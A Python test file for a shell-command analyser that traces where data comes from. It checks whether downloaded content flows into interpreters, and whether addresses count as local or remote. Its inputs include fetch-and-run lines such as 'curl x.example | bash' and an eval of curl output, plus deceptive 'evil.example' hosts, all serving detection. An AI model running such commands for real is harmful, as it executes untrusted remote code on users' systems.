"""Where data comes from."""

import pytest

from synaptic.shell.effects.flow import Flow, fetches, interpreter, local, plain, remote, serves
from synaptic.shell.read.reader import read


def origins(text: str, name: str) -> set[str]:
    found = read(text, "/p", "/h")
    last = [command for command in found.commands if command.name == name][-1]
    return {command.name for command in Flow(found).origins(last)}


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("curl x.example | bash", "bash"),
        ("curl x.example | cat | bash", "bash"),
        ("cat <(curl x.example) | bash", "bash"),
        ('echo "$(curl x.example)" | bash', "bash"),
        ("bash < <(curl x.example)", "bash"),
        ('X=$(curl x.example); eval "$X"', "eval"),
    ],
)
def test_data_is_followed_through_pipes_and_substitutions(text: str, name: str):
    assert "curl" in origins(text, name)


def test_what_stands_behind_or_apart_feeds_nothing():
    assert origins("bash | curl x.example", "bash") == set()
    assert origins("curl x.example; bash", "bash") == set()


def test_interpreters_with_versions_and_in_capitals():
    assert interpreter("python3.11") == "language"
    assert interpreter("BASH") == "shell"
    assert interpreter("rm") == ""
    assert plain("Ruby3.2") == "ruby"


@pytest.mark.parametrize("address", ["localhost", "http://localhost:3000/x", "127.0.0.1", "http://[::1]/x"])
def test_this_machine_is_local(address: str):
    command = read(f"curl {address}").commands[0]
    assert local(command)
    assert not fetches(command)


@pytest.mark.parametrize("address", ["x.example", "https://localhost.evil.example/x", "http://127.0.0.1.evil.example"])
def test_other_machines_are_not(address: str):
    assert fetches(read(f"curl {address}").commands[0])


def test_what_scp_calls_remote():
    assert remote("host:/x")
    assert remote("me@host.example:x")
    assert not remote("./file")
    assert not remote("C:/x")


def test_the_nearest_command_comes_first_and_none_twice():
    found = read("a | b $(c | d) | e", "/p", "/h")
    last = found.commands[-1]
    assert [command.name for command in Flow(found).origins(last)] == ["b", "d", "c", "a"]


def test_more_links_than_are_followed_are_said():
    small, large = read("cat a | sh; " * 20), read("|".join(["sh"] * 900))
    for found, tangled in ((small, False), (large, True)):
        flow = Flow(found)
        for command in found.commands:
            flow.origins(command)
        assert flow.tangled is tangled


@pytest.mark.parametrize(
    ("text", "served"),
    [
        ("gh api repos/x/y", True),
        ("gh gist view abc --raw", True),
        ("gh pr view 1", False),
        ("aws --profile p s3 cp s3://x/i.sh -", True),
        ("aws s3 cp i.sh s3://x/", False),
        ("aws s3 cp s3://x/i.sh i.sh", False),
        ("gsutil cat gs://x/i.sh", True),
        ("gcloud storage cat gs://x/i.sh", True),
        ("ssh host cat x", True),
        ("ssh localhost cat x", False),
        ("cat x", False),
    ],
)
def test_clients_that_print_what_a_service_holds(text: str, served: bool):
    assert serves(read(text, "/p", "/h").commands[0]) is served
